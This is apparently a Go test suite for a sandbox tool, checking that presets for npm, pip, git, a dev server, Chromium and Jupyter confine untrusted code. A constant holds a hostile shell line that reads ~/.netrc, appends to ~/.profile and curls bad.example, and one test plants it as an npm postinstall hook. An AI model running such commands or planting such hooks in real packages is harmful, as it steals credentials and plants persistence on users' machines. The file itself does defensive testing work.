package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"fmt"
	"image/png"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bailey-sandbox/bailey/internal/testenv"
)

// beside is a preset with the world's addresses, which are all on loopback.
func beside(preset string) string {
	return `{"extends": "` + preset + `", "network": {"allowedCIDRs": ["127.0.0.0/8"]}}`
}

// publish puts a file where the world serves it.
func (w *world) publish(name string, data []byte) {
	w.t.Helper()
	path := filepath.Join(w.home, "files", name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		w.t.Fatal(err)
	}
}

// greedy is what a package does when it is installed: it takes what it can get.
const greedy = `cat ~/.netrc >stolen 2>/dev/null; echo x >>~/.profile; curl -s http://bad.example/ >/dev/null; touch ran`

func TestNPMInstallUnderItsPreset(t *testing.T) {
	testenv.Requires(t, testenv.Program("npm"), testenv.Program("curl"))
	inWorld(t, func(t *testing.T, w *world) {
		manifest := `{"name": "left", "version": "1.0.0", "main": "x.js", "scripts": {"postinstall": "` + greedy + `"}`
		var archive bytes.Buffer
		zipped := gzip.NewWriter(&archive)
		packed := tar.NewWriter(zipped)
		for name, text := range map[string]string{"package/package.json": manifest + "}", "package/x.js": "module.exports = 'left'\n"} {
			if err := packed.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
				t.Fatal(err)
			}
			fmt.Fprint(packed, text)
		}
		packed.Close()
		zipped.Close()
		w.publish("npm/left.tgz", archive.Bytes())
		w.publish("npm/left", []byte(`{"name": "left", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": `+
			manifest+`, "dist": {"tarball": "http://good.example/files/npm/left.tgz"}}}}`))
		w.secrets()
		w.env = append(w.env, "npm_config_registry=http://good.example/files/npm/", "npm_config_update_notifier=false")
		w.write("package.json", `{"name": "mine", "version": "1.0.0"}`, 0o644)
		got := w.under(beside("npm-install"), "npm", "install", "--foreground-scripts", "--no-audit", "left")
		if got.status != 0 {
			t.Fatalf("%+v", got)
		}
		w.under(beside("npm-install"), "node", "-p", "require('left')").want(t, 0, "left\n", "")
		w.nothingTaken(filepath.Join(w.dir, "node_modules/left"))
	})
}

// secrets are what a package would like to have.
func (w *world) secrets() {
	w.t.Helper()
	if err := os.WriteFile(filepath.Join(w.home, ".netrc"), []byte("password"), 0o600); err != nil {
		w.t.Fatal(err)
	}
}

// nothingTaken looks at what a greedy package left where it was installed.
func (w *world) nothingTaken(dir string) {
	w.t.Helper()
	if _, err := os.Stat(filepath.Join(dir, "ran")); err != nil {
		w.t.Errorf("the package's own code did not run: %v", err)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "stolen")); len(data) > 0 {
		w.t.Errorf("it read %q", data)
	}
	if _, err := os.Stat(filepath.Join(w.home, ".profile")); err == nil {
		w.t.Error("it wrote into the home directory")
	}
	if _, served := w.heard(); strings.Contains(strings.Join(served, " "), "bad.example") {
		w.t.Errorf("it reached %q", served)
	}
}

func TestPipInstallUnderItsPreset(t *testing.T) {
	testenv.Requires(t, testenv.Program("curl"), testenv.File("/usr/bin/python3"))
	inWorld(t, func(t *testing.T, w *world) {
		var wheel bytes.Buffer
		z := zip.NewWriter(&wheel)
		for name, text := range map[string]string{
			"hello.py":                     "print('hello from the index')\n",
			"hello-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n",
			"hello-1.0.dist-info/WHEEL":    "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
			"hello-1.0.dist-info/RECORD":   "hello.py,,\nhello-1.0.dist-info/METADATA,,\nhello-1.0.dist-info/WHEEL,,\nhello-1.0.dist-info/RECORD,,\n",
		} {
			f, err := z.Create(name)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprint(f, text)
		}
		z.Close()
		w.publish("simple/hello/hello-1.0-py3-none-any.whl", wheel.Bytes())
		w.publish("simple/hello/index.html", []byte(`<a href="hello-1.0-py3-none-any.whl">hello-1.0-py3-none-any.whl</a>`))
		w.secrets()
		w.env = append(w.env, "PIP_INDEX_URL=http://good.example/files/simple/", "PIP_TRUSTED_HOST=good.example", "PIP_DISABLE_PIP_VERSION_CHECK=1")
		policy := beside("pip-install")
		for _, argv := range [][]string{{"python3", "-m", "venv", ".venv"}, {".venv/bin/pip", "install", "-q", "hello"}} {
			if got := w.under(policy, argv...); got.status != 0 {
				t.Fatalf("%q: %+v", argv, got)
			}
		}
		w.under(policy, ".venv/bin/python", "-m", "hello").want(t, 0, "hello from the index\n", "")
		got := w.under(policy, "sh", "-c", "cd .venv; "+greedy)
		if got.status != 0 {
			t.Errorf("%+v", got)
		}
		w.nothingTaken(filepath.Join(w.dir, ".venv"))
	})
}

func TestDevelopmentUnderTheCodePresets(t *testing.T) {
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1), testenv.Program("git"))
	for preset, tool := range map[string]string{"code": "tool\n", "code-strict": ""} {
		b := newBench(t)
		cmd := exec.Command("sh", "-c", `git init -q . && mkdir -p "$HOME/.nvm" && echo tool >"$HOME/.nvm/tool" && echo password >"$HOME/.netrc" &&
			git config --global user.name somebody && git config --global user.email s@b`)
		cmd.Dir, cmd.Env = b.dir, append(os.Environ(), "HOME="+b.home)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		run := func(line string) result { return b.run("-q", "-t", preset, "-c", line) }
		run("echo one >f && git add f && git commit -qm first && git log --format='%an %s'").want(t, 0, "somebody first\n", "")
		if got := run("cat ~/.nvm/tool 2>/dev/null"); got.stdout != tool {
			t.Errorf("%s: a tool in the home directory: %+v", preset, got)
		}
		for _, line := range []string{"cat ~/.netrc", "echo x >.git/hooks/pre-commit", "echo x >>.git/config"} {
			if got := run(line); got.status == 0 || got.stdout != "" {
				t.Errorf("%s: %s: %+v", preset, line, got)
			}
		}
		if data, err := os.ReadFile(filepath.Join(b.dir, "f")); err != nil || string(data) != "one\n" {
			t.Errorf("%s: f is %q, %v", preset, data, err)
		}
	}
}

func TestLockedWritesOnlyWhatIsPrivate(t *testing.T) {
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1))
	b := newBench(t)
	b.run("-q", "-t", "locked", "-c", `for f in /tmp/x /var/tmp/x /dev/shm/x ~/x new /run/x /etc/x; do touch "$f" 2>/dev/null && echo "${f%/x}"; done; true`).want(t, 0,
		"/tmp\n/var/tmp\n/dev/shm\n"+b.home+"\n", "")
	for _, file := range []string{"/var/tmp/x", "/dev/shm/x", filepath.Join(b.home, "x"), filepath.Join(b.dir, "new")} {
		if _, err := os.Lstat(file); err == nil {
			t.Errorf("%s is on the host", file)
		}
	}
}

func TestGitUnderItsReadOnlyPreset(t *testing.T) {
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1), testenv.Program("git"))
	b := newBench(t)
	cmd := exec.Command("sh", "-c", "git init -q . && echo one >f && git add f && git -c user.name=t -c user.email=t@t commit -qm first && echo two >f")
	cmd.Dir = b.dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	run := func(args ...string) result {
		return b.run(append([]string{"-q", "-t", "git-readonly", "--", "git"}, args...)...)
	}
	run("log", "--format=%s").want(t, 0, "first\n", "")
	run("status", "--short").want(t, 0, " M f\n", "")
	run("show", "HEAD:f").want(t, 0, "one\n", "")
	run("blame", "-s", "--abbrev=1", "HEAD", "--", "f")
	if got := run("diff"); !strings.Contains(got.stdout, "+two") {
		t.Errorf("%+v", got)
	}
	for _, args := range [][]string{
		{"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "second"},
		{"checkout", "-q", "f"},
		{"config", "a.b", "c"},
		{"tag", "x"},
		{"stash"},
		{"gc", "-q"},
	} {
		if got := run(args...); got.status == 0 {
			t.Errorf("%q: %+v", args, got)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(b.dir, "f")); string(data) != "two\n" {
		t.Errorf("f is %q", data)
	}
}

func TestADevelopmentServerIsSeenFromTheHost(t *testing.T) {
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1), testenv.File("/usr/bin/python3"))
	b := newBench(t)
	b.write("index.html", "hello from inside", 0o644)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().String()[len("127.0.0.1:"):]
	l.Close()
	cmd := b.command("-q", "-t", "local-dev-server", "-p", port+":8000", "--", "/usr/bin/python3", "-u", "-m", "http.server", "8000", "--bind", "127.0.0.1")
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var complaints bytes.Buffer
	cmd.Stderr = &complaints
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}()
	if n, err := out.Read(make([]byte, 200)); n == 0 { // "Serving HTTP on …"
		t.Fatalf("it did not start: %v", err)
	}
	answer, err := http.Get("http://127.0.0.1:" + port + "/")
	if err != nil {
		t.Fatalf("%v; %s", err, complaints.String())
	}
	defer answer.Body.Close()
	var body bytes.Buffer
	if _, err := body.ReadFrom(answer.Body); err != nil || body.String() != "hello from inside" {
		t.Errorf("%q, %v", body.String(), err)
	}
}

func TestChromiumRendersAPageThatIsServedInside(t *testing.T) {
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1), testenv.Program("chromium"), testenv.File("/usr/bin/python3"))
	b := newBench(t)
	b.write("index.html", `<html><body style="background: #00f"><p>text</p><script>
		document.title = "run"; document.body.append("six times seven is " + 6 * 7)</script></body></html>`, 0o644)
	const script = `
		python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &
		until (: </dev/tcp/127.0.0.1/8000) 2>/dev/null; do :; done
		chromium --no-sandbox --headless --disable-gpu --window-size=200,100 --screenshot=shot.png http://127.0.0.1:8000/ >log 2>&1 || cat log
		chromium --no-sandbox --headless --disable-gpu --dump-dom http://127.0.0.1:8000/ 2>/dev/null
		kill $!`
	got := b.run("-q", "-t", "browser", "-c", script)
	if !strings.Contains(got.stdout, "six times seven is 42") {
		t.Errorf("%+v", got)
	}
	f, err := os.Open(filepath.Join(b.dir, "shot.png"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	shot, err := png.Decode(f)
	if err != nil {
		t.Fatal(err)
	}
	size := shot.Bounds()
	if r, g, blue, _ := shot.At(size.Max.X-2, size.Min.Y+2).RGBA(); r != 0 || g != 0 || blue != 0xffff {
		t.Errorf("the page is not blue but %d %d %d", r, g, blue)
	}
}

func TestANotebookIsExecuted(t *testing.T) {
	library := filepath.Join(os.Getenv("BAILEY_TEST_AGENTS"), "notebook")
	testenv.Requires(t, testenv.UserNamespaces, testenv.Landlock(1), testenv.File(filepath.Join(library, "nbclient")))
	b := newBench(t)
	for _, dir := range []string{".ipython/profile_default/startup", ".local/share/jupyter", ".ssh"} {
		if err := os.MkdirAll(filepath.Join(b.home, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(b.home, ".ssh/id"), []byte("secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	b.write("work.ipynb", `{"cells": [{"cell_type": "code", "execution_count": null, "id": "a", "metadata": {}, "outputs": [], "source":
		["import os\n", "print(6 * 7, os.path.exists(os.path.expanduser('~/.ssh/id')))\n",
		 "open(os.path.expanduser('~/.ipython/profile_default/startup/later.py'), 'w').write('print(1)')"]}],
		"metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}`, 0o644)
	b.env = append(b.env, "PYTHONPATH="+library)
	got := b.run("-q", "-t", "data", "--allow-read", library, "--", "/usr/bin/python3", "-c", `
import nbformat, nbclient
book = nbformat.read("work.ipynb", 4)
nbclient.NotebookClient(book, kernel_name="python3", timeout=120).execute()
nbformat.write(book, "done.ipynb")
print(book.cells[0].outputs[0].text)`)
	if got.status != 0 || !strings.Contains(got.stdout, "42 False") {
		t.Errorf("%+v", got)
	}
	if _, err := os.Stat(filepath.Join(b.dir, "done.ipynb")); err != nil {
		t.Error(err)
	}
	if _, err := os.Stat(filepath.Join(b.home, ".ipython/profile_default/startup/later.py")); err == nil {
		t.Error("a start-up script was left for the next run outside")
	}
}
